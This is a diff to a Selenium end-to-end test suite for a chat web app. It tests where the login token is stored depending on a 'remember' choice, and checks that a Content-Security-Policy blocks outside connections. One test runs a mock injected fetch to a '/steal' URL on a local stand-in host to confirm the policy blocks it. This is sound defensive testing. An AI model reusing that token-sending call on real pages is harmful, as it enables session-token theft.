@@ -8,6 +8,7 @@ the state folder's screenshots/.
 import os
 import signal
 from contextlib import contextmanager
+from urllib.parse import urlsplit
 
 import pytest
 import requests
@@ -72,6 +73,7 @@ def chat(people, deployed_page, served_page) -> dict:
 
     ben.open(served_page)
     ben.js("window.alert = () => { window.alerted = true; };")
+    _field(ben, "#remember").click()  # Ben keeps the token on his phone; Ana does not tick it
     _field(ben, "#token-input").send_keys(token, Keys.ENTER)
     ben.until(
         lambda: ben.driver.find_elements(By.CSS_SELECTOR, '#chat-list [data-chat="1"]'), what="chat listed"
@@ -91,8 +93,40 @@ def test_one_posts_and_the_other_sees_it_across_origins(people, chat):
     # The token stays in the browser: never in the page's address.
     for person in (ana, ben):
         assert chat["token"] not in person.driver.current_url
-        assert person.js("return localStorage.getItem('chat.token')") == chat["token"]
     ben.screenshot("2-ben-joined-on-a-phone")
+
+
+def _stored(person) -> dict:
+    return person.js(
+        "return {session: sessionStorage.getItem('chat.token'), local: localStorage.getItem('chat.token')};"
+    )
+
+
+def test_the_token_stays_in_the_tab_unless_remembered_on_this_device(people, chat):
+    ana, ben = people["ana"], people["ben"]
+    # Ana did not tick "remember": the token is in her tab's sessionStorage, gone when it closes.
+    assert _stored(ana) == {"session": chat["token"], "local": None}
+    # Ben did: localStorage, for every tab of his browser.
+    assert _stored(ben) == {"session": None, "local": chat["token"]}
+    # A reload keeps each where it was, and the workspace open.
+    ana.driver.refresh()
+    ana.until(lambda: _field(ana, "#new-chat").is_displayed(), what="workspace after a reload")
+    assert _stored(ana) == {"session": chat["token"], "local": None}
+
+
+def test_the_page_may_connect_to_the_api_origin_and_nowhere_else(people, chat, stack_outputs):
+    ana = people["ana"]
+    api = urlsplit(stack_outputs["ApiUrl"])
+    policy = ana.js("return document.querySelector('meta[http-equiv=Content-Security-Policy]').content")
+    assert f"connect-src {api.scheme}://{api.netloc};" in policy
+    # A script on the page (an injected one, say) cannot send the token anywhere else.
+    blocked = ana.driver.execute_async_script(
+        """const done = arguments[arguments.length - 1];
+        document.addEventListener('securitypolicyviolation',
+            (e) => done(e.violatedDirective), {once: true});
+        fetch('http://127.0.0.1:9/steal?t=x').catch(() => {});"""
+    )
+    assert blocked == "connect-src"
 
 
 def test_a_message_body_is_shown_as_text_never_as_html(people, chat):
